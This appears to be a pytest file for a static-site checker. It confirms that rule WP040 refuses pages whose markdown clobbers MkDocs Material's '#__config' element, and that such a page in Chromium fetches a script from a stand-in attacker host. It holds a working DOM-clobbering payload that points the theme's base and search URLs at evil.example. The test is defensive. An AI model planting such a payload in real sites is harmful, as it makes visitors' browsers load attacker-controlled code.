"""WP040 against a real browser: an element with id ``__config`` really takes over
Material's configuration in Chromium, and webpub refuses it before it reaches a page.

The sample site plus a page that clobbers ``#__config`` (as written HTML, and as a
code block given ``{ #__config }``) is built in preview mode with the real MkDocs
build. ``webpub check`` refuses both with WP040 and the build's output check with
WP310; opened in Chromium, the built page (which no publish build would produce)
does fetch from the attacker's host, so the refusal guards a real attack; the same
page without the clobber contacts nobody.
"""

from __future__ import annotations

import json
import mimetypes
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest

from conftest import run_cli
from pagekit import page_text, write

ORIGIN = "http://site.test"
EVIL = {"base": "https://evil.example/", "version": {"provider": "mike"}, "features": [],
        "search": "https://evil.example/search.js", "translations": {}}
PAGES = {
    "written": f"<div id=\"__config\">{json.dumps(EVIL)}</div>\n",
    "fenced": "```{.json #__config}\n" + json.dumps(EVIL) + "\n```\n",
    "plain": "ข้อความปกติ\n",
}


def visit(browser, site: Path, path: str) -> list[str]:
    """Outside requests the built page makes by itself."""
    outside: list[str] = []
    # Without the site's content security policy (each page carries one since issue 16,
    # which refuses this attack too): the check must hold on its own, on any server.
    page = browser.new_page(bypass_csp=True)

    def route(request_route):
        url = request_route.request.url
        if not url.startswith(ORIGIN + "/"):
            outside.append(url)
            request_route.abort()
            return
        rel = unquote(urlsplit(url).path).lstrip("/")
        target = site / rel
        if target.is_dir():
            target = target / "index.html"
        if not target.is_file():
            request_route.fulfill(status=404, body="")
            return
        kind = mimetypes.guess_type(target.name)[0] or "application/octet-stream"
        request_route.fulfill(status=200, body=target.read_bytes(), content_type=kind)

    page.route("**/*", route)
    page.goto(f"{ORIGIN}/{path}")
    page.wait_for_timeout(300)  # let the theme's scripts start; not a speed assertion
    page.close()
    return outside


def test_config_clobbering_is_refused_and_would_really_run(sample_repo, capsys, browser):
    for name, body in PAGES.items():
        write(sample_repo, f"content/about/clobber-{name}.md", page_text("## หัวข้อ\n\n" + body))
    code, out, err = run_cli(capsys, "check", "--format", "json", "--no-cache")
    findings = json.loads(out)["findings"]
    hits = {f["path"] for f in findings if f["rule"] == "WP040" and f["severity"] == "error"}
    assert code == 1 and hits == {"content/about/clobber-written.md", "content/about/clobber-fenced.md"}
    assert not [f for f in findings if f["path"] == "content/about/clobber-plain.md" and f["severity"] == "error"]

    code, out, err = run_cli(capsys, "build", "--mode", "preview", "--site-dir", "built")
    assert code == 1 and "WP310" in out and "Traceback" not in out + err
    site = sample_repo / "built"
    for name in ("written", "fenced"):
        outside = visit(browser, site, f"about/clobber-{name}/")
        assert any(urlsplit(u).hostname == "evil.example" for u in outside), (name, outside)
    assert visit(browser, site, "about/clobber-plain/") == []
